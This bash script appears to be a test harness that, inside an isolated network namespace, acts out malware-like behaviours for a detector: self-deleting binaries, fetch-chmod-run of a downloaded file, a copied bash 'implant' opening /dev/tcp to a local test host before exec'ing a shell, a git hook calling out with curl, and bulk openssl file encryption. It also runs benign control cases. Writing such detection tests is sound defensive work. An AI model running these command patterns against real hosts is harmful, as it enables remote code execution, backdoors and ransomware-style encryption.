#!/bin/bash
# Acts of docs/integrate/sequences.md: `sequences.sh DIRECTORY ACT...` does each act in a directory of its own. Runs in a network
# namespace of its own (unshare --net), in which 203.0.113.9 is this machine.
set -eu
cd "$1" && shift
here=$PWD
export HOME=$here PATH=/usr/bin:/bin:/usr/sbin GIT_CONFIG_NOSYSTEM=1
mkdir served && cp /bin/true served/tool
"$PYTHON" -S -m http.server --bind 203.0.113.9 --directory served 8000 > /dev/null 2>&1 &
server=$!
trap 'kill $server' EXIT
url=http://203.0.113.9:8000
until curl --silent --output /dev/null $url/; do :; done
connect='exec 3<> /dev/tcp/203.0.113.9/8000'

erases_itself() { cp /bin/rm erasing; ./erasing "$here/erasing"; }
erases_another() { cp /bin/rm sparing; : > other; "$here/sparing" "$here/other"; rm sparing; }

fetched_run_removed() { curl --silent --output fetched $url/tool; chmod +x fetched; ./fetched; rm fetched; }
fetched_run_kept() { curl --silent --output kept $url/tool; chmod +x kept; ./kept; }
copied_run_removed() { cp ../served/tool copied; chmod +x copied; ./copied; rm copied; }
fetched_removed() { curl --silent --output unused $url/tool; rm unused; }

implant_becomes_a_shell() { cp /bin/bash implant; "$here/implant" -c "$connect; exec sh -c :"; }
implant_connects() { cp /bin/bash talker; "$here/talker" -c "$connect; exec true"; }
implant_is_a_shell_only() { cp /bin/bash mute; "$here/mute" -c "exec sh -c :"; }
system_shell_connects() { bash -c "$connect; exec sh -c :"; }

repository() {
    git init --quiet "$1"
    printf '#!/bin/sh\n%s\n' "$2" > "$1/.git/hooks/post-commit"
    chmod +x "$1/.git/hooks/post-commit"
    git -C "$1" -c user.name=a -c user.email=a@example.com commit --quiet --allow-empty --message x
}
hook_connects() { repository hooked "curl --silent --output /dev/null $url/"; }
hook_stays() { repository quiet true; curl --silent --output /dev/null $url/; }

openssl_on() {
    echo text > plain && openssl enc -aes-256-cbc -k x -in plain -out sealed 2> /dev/null
    bash -c 'for n in $(seq '"$1"'); do openssl enc '"$2"' 2> /dev/null; done'
}
ten_files_are_encrypted() { openssl_on 10 '-aes-256-cbc -k x -in plain -out sealed$n'; }
nine_files_are_encrypted() { openssl_on 9 '-aes-256-cbc -k x -in plain -out sealed$n'; }
ten_files_are_decrypted() { openssl_on 10 '-d -aes-256-cbc -k x -in sealed -out plain$n'; }

for act in "$@"; do
    mkdir "$act"
    cd "$act"
    here=$PWD
    "$act"
    cd ..
done
